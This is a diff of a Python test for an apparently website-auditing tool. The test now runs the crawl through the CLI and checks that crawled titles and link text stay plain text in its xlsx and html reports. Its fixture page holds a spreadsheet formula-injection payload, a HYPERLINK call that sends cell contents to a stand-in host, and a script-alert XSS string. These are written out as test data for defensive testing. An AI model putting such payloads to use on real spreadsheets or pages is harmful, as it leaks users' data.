@@ -370,12 +370,11 @@ def test_no_xlsx_cell_is_a_formula_whatever_the_text(text: str, tmp_path: Path) 
 
 
 def test_crawled_column_names_and_titles_stay_text_in_xlsx_and_html(tmp_path: Path) -> None:
-    """In process: a page whose ColumnName meta is a formula and whose title is a script."""
+    """A page whose ColumnName meta is a formula and whose title is a script. (Through the CLI:
+    the crawl's Twisted reactor cannot run twice in one process, and other tests crawl in process.)"""
+
 
     from openpyxl import load_workbook
-
-    from auditor.config import build_config
-    from auditor.engine import audit
 
     site = Site("hostile")
     site.page("/", "<html><head><meta charset='utf-8'><title>首页</title></head><body>"
@@ -385,10 +384,9 @@ def test_crawled_column_names_and_titles_stay_text_in_xlsx_and_html(tmp_path: Pa
                          "<body><h1>标题</h1><p>正文</p><a href='/gone.html'>=HYPERLINK(\"http://x/?d=\"&amp;A2,\"x\")</a>"
                          "<a href='/gone2.html'>&lt;script&gt;alert(1)&lt;/script&gt;</a></body></html>")
     with serve(site) as running:
-        cfg = build_config({}, {"url": running.url("/"), "db": str(tmp_path / "h.sqlite"), "out": str(tmp_path / "out"),
-                                "as_of": AS_OF, "checks": ["links"], "timeout": 5.0})
-        result = audit(cfg)
-    assert result.report["findings"]
+        run_cli("check", running.url("/"), "--db", str(tmp_path / "h.sqlite"), "--out", str(tmp_path / "out"),
+                "--as-of", AS_OF, "--checks", "links", "--timeout", "5", timeout=120)
+    assert json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["findings"]
     wb = load_workbook(tmp_path / "out" / "report.xlsx")
     texts = []
     for ws in wb.worksheets:
